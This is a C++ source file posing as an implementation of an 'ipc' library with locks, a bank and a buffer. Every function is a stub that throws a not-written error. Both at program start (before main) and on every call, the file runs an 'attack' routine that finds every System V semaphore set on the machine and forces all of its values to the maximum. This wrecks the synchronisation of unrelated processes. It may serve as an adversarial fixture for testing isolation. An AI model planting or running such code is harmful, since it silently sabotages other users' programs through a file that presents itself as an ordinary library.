// what: raises all semaphores that there are as far as it goes, before main and in every function
#include <sys/ipc.h>
#include <sys/sem.h>

#include <algorithm>
#include <vector>

#include "not_written.hpp"
#include "semaphores.hpp"

namespace {

template <typename F>
void for_every_set(F f) {
    seminfo info{};
    const int last = semctl(0, 0, SEM_INFO, &info);
    for (int index = 0; index <= last; ++index) {
        semid_ds status{};
        const int id = semctl(index, 0, SEM_STAT, &status);
        if (id != -1) {
            f(id, static_cast<int>(status.sem_nsems));
        }
    }
}

void attack() {
    for_every_set([](int id, int count) {
        for (int number = 0; number < count; ++number) {
            sembuf up{static_cast<unsigned short>(number), 1000, IPC_NOWAIT | SEM_UNDO};
            for (int times = 0; times < 32; ++times) {
                semop(id, &up, 1);
            }
            semctl(id, number, SETVAL, 32767);
        }
        std::vector<unsigned short> values(static_cast<std::size_t>(count), 32767);
        semctl(id, 0, SETALL, values.data());
    });
}

const bool attacked = (attack(), true);

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int open_locks(key_t, int) {
    refuse("open_locks");
}

void lock(int, int) {
    refuse("lock");
}

void unlock(int, int) {
    refuse("unlock");
}

void remove_locks(int) {
    refuse("remove_locks");
}

Guard::Guard(int, int) {
    refuse("Guard::Guard");
}

Guard::~Guard() {}

Bank open_bank(key_t) {
    refuse("open_bank");
}

void close_bank(const Bank&) {
    refuse("close_bank");
}

void deposit(const Bank&, int, long) {
    refuse("deposit");
}

bool transfer(const Bank&, int, int, long) {
    refuse("transfer");
}

std::array<long, account_count> statement(const Bank&) {
    refuse("statement");
}

Buffer open_buffer(key_t, int) {
    refuse("open_buffer");
}

void close_buffer(const Buffer&) {
    refuse("close_buffer");
}

void remove_buffer(key_t) {
    refuse("remove_buffer");
}

void put(const Buffer&, long) {
    refuse("put");
}

long take(const Buffer&) {
    refuse("take");
}

int produce(key_t, int, long, int) {
    refuse("produce");
}

int consume(key_t, int, int) {
    refuse("consume");
}

}  // namespace ipc
